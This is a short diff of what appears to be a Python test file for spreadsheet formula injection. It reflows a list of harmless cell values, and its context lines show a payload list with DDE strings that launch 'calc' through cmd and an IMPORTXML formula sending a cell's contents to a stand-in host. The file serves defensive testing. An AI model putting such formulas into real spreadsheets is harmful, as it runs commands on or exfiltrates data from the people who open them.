@@ -25,7 +25,22 @@ PAYLOADS = [
     "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "+49 170 1234567", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
     "=\"a\"&\"b\"", "\t\t=1", "\x00=1", "\x0b=1", "=1;2", "=A1,\"x\"\n=B2", "-", "+", "=", "@", "'=1", "''=1", "' =1",
 ]  # fmt: skip
-HARMLESS = ["", "Ann", "a=1", "a-b", "1+1", "me@example.com", "'quoted'", "it's", "007", "ä", "a,b", 'a "b"', "a\nb", "#N/A"]
+HARMLESS = [
+    "",
+    "Ann",
+    "a=1",
+    "a-b",
+    "1+1",
+    "me@example.com",
+    "'quoted'",
+    "it's",
+    "007",
+    "ä",
+    "a,b",
+    'a "b"',
+    "a\nb",
+    "#N/A",
+]
 
 
 def is_run(cell: str) -> bool:
